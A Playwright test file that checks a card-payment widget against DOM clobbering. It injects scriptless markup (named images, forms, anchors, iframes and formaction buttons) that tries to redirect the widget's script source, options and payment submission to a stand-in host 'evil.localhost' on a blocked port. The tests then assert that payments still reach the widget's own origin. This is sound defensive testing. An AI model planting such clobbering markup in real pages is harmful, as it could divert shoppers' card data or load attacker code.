import type { Browser, Page } from '@playwright/test';
import words from '#locales/en' with { type: 'json' };
import { cardForm } from '../../pages/card-form.ts';
import { createOffer, storedForm } from '../../pages/stored-form.ts';
import { expect, test } from '../../support/fixtures.ts';

/*
 * Markup without scripts, as a shopper's comment or an advertisement could bring it into a page. Named elements
 * replace properties of `window`, `document` and forms (https://html.spec.whatwg.org/#named-access-on-the-window-object).
 */

type Attack = {
  readonly markup: string;
  /** Before the widget's script, or inside the form that the widget replaces. */
  readonly isInside?: boolean;
};

/** A blocked port: the browser starts requests to it, and none of them is sent. */
const evil = 'http://evil.localhost:9/';

const scriptUrl = `${evil}v1/paymentWidgets.js`;

const attacks: Readonly<Record<string, readonly Attack[]>> = {
  'elements named like properties of the document': [
    { markup: `<img name="currentScript" src="${scriptUrl}">` },
    { markup: `<form name="currentScript"><input name="src" value="${scriptUrl}"></form>` },
  ],
  'elements and frames named wpwlOptions': [
    { markup: `<a id="wpwlOptions" href="${evil}">options</a>` },
    {
      markup: `<form id="wpwlOptions"><input name="baseUrl" value="${evil}">
        <input name="shopperResultUrl" value="${evil}"><input name="paymentTarget" value="evil"></form>`,
    },
    {
      markup: `<a id="wpwlOptions"></a><a id="wpwlOptions" name="baseUrl" href="${evil}"></a>`,
    },
    { markup: `<iframe name="wpwlOptions" srcdoc="<a id=baseUrl href=${evil}></a>"></iframe>` },
    { markup: `<iframe name="wpwlOptions" src="data:text/html,elsewhere"></iframe>` },
  ],
  'buttons with a formaction': [
    {
      markup: `<button formaction="${evil}">Pay now</button><input type="image" formaction="${evil}">`,
      isInside: true,
    },
  ],
};

/** Presses keys only: clicks, inserted text, role and attribute selectors do not work with such elements around. */
const fillAndPay = async (page: Page, digits = '4200000000000091'): Promise<void> => {
  const { number, cvv } = cardForm(page);
  await number.pressSequentially(digits);
  await page.locator('.wpwl-control-expiry').pressSequentially('1239');
  await page.locator('.wpwl-control-cardHolder').pressSequentially('Jane Jones');
  await cvv.pressSequentially('123');
  await cvv.press('Enter');
};

const documentInterfaces = ['Document', 'Node', 'EventTarget'];
const formInterfaces = ['HTMLFormElement', 'HTMLElement', 'Element', 'Node', 'EventTarget'];

/** The names of all properties and methods of these interfaces in this browser. */
const namesOf = async (
  browser: Browser,
  interfaces: readonly string[],
): Promise<readonly string[]> => {
  const page = await browser.newPage();
  const names = await page.evaluate(
    (found) =>
      found.flatMap((name) => {
        const { prototype } = Reflect.get(window, name) as { readonly prototype: object };
        return Object.getOwnPropertyNames(prototype);
      }),
    interfaces,
  );
  await page.close();
  return names;
};

const createImages = async (browser: Browser): Promise<string> => {
  const names = await namesOf(browser, documentInterfaces);
  return names.map((name) => `<img name="${name}">`).join('');
};

const createInputs = async (browser: Browser): Promise<string> => {
  const names = await namesOf(browser, formInterfaces);
  return names.map((name) => `<input type="hidden" name="${name}" value="x">`).join('');
};

const putInside = (form: string, markup: string): string =>
  form.replace('></form>', `>${markup}</form>`);

test.describe('The widget', () => {
  // The images are requested from there.
  test.use({ allowedHosts: [new URL(evil).host] });

  for (const [what, rows] of Object.entries(attacks))
    test(`pays to its own origin on a page with ${what} @firefox-full`, async ({
      page,
      sandbox,
    }) => {
      const requested: string[] = [];
      page.on('request', (request) => {
        if (request.resourceType() !== 'image') requested.push(request.url());
      });
      for (const { markup, isInside = false } of rows) {
        await test.step(markup, async () => {
          const checkoutId = await sandbox.createCheckout();
          const [before, inside] = isInside ? ['', markup] : [markup, ''];
          await sandbox.merchantPage(page, {
            body: `${before}<script src="${sandbox.scriptAddress(checkoutId)}"></script>
              <form action="/result?order=7" class="paymentWidgets" data-brands="VISA">${inside}</form>`,
          });
          await fillAndPay(page);

          const returned = await sandbox.result(page);
          expect(returned.get('order')).toBe('7');
          expect(returned.get('resourcePath')).toBe(`/v1/checkouts/${checkoutId}/payment`);
          expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
        });
      }
      expect(requested.filter((url) => url.startsWith(evil))).toEqual([]);
    });

  test('pays on a page with images named like every property of the document @firefox', async ({
    page,
    browser,
    sandbox,
  }) => {
    const checkoutId = await sandbox.createCheckout();
    const { head = '', body = '' } = sandbox.snippet({ checkoutId });
    await sandbox.merchantPage(page, { head, body: (await createImages(browser)) + body });
    await fillAndPay(page);
    await sandbox.result(page);
    expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
  });

  test('challenges the shopper in a form with inputs named like all of its properties @firefox', async ({
    page,
    browser,
    sandbox,
  }) => {
    const inputs = await createInputs(browser);
    const checkoutId = await sandbox.createCheckout();
    const options = { paymentTarget: 'iframe' };
    const { head = '', body = '' } = sandbox.snippet({ checkoutId, options });
    // A form around the widget's own, as scripts of shops make it.
    const move = `document.querySelector('#place').append(document.querySelector('.paymentWidgets'));`;
    await sandbox.merchantPage(page, {
      body: `<form>${inputs}<div id="place"></div></form>
          ${putInside(body, inputs)}<script>${move}</script>${head}`,
    });
    await fillAndPay(page, '4200000000000042');
    const bank = page.frameLocator('iframe.wpwl-target');
    await bank.getByRole('button', { name: 'Confirm payment' }).press('Enter');
    await sandbox.result(page);
    expect((await sandbox.ledger(checkoutId)).payments).toHaveLength(1);
  });

  test('leaves a form in use where it is, on a page with an image named activeElement', async ({
    page,
    sandbox,
  }) => {
    const checkoutId = await createOffer(sandbox, ['card']);
    const { head = '', body = '' } = sandbox.snippet({ checkoutId });
    let release = (): void => {};
    const released = new Promise<void>((resolve) => (release = resolve));
    await page.route(/\/widget$/, async (route) => {
      await released;
      await route.continue();
    });
    await sandbox.merchantPage(page, { head, body: `<img name="activeElement">${body}` });
    const card = cardForm(page);
    await card.number.pressSequentially('4200');
    const answered = page.waitForResponse(/\/widget$/);
    release();
    await answered;
    await expect(page.getByText(words.testMode).first()).toBeVisible();
    await expect(card.number).toBeVisible();
    await expect(storedForm(page).container).toHaveCount(0);
  });

  test('unloads a form with inputs named like all of its properties', async ({
    page,
    browser,
    sandbox,
  }) => {
    const errors: string[] = [];
    page.on('pageerror', ({ message }) => void errors.push(message));
    const inputs = await createInputs(browser);
    const checkoutId = await sandbox.createCheckout();
    const { head = '', body = '' } = sandbox.snippet({ checkoutId });
    await sandbox.merchantPage(page, { head, body: putInside(body, inputs) });
    await cardForm(page).number.fill('4200');
    await page.evaluate('wpwl.unload()');
    await expect(page.locator('.wpwl-container, .wpwl-form')).toHaveCount(0);
    expect(errors).toEqual([]);
  });
});
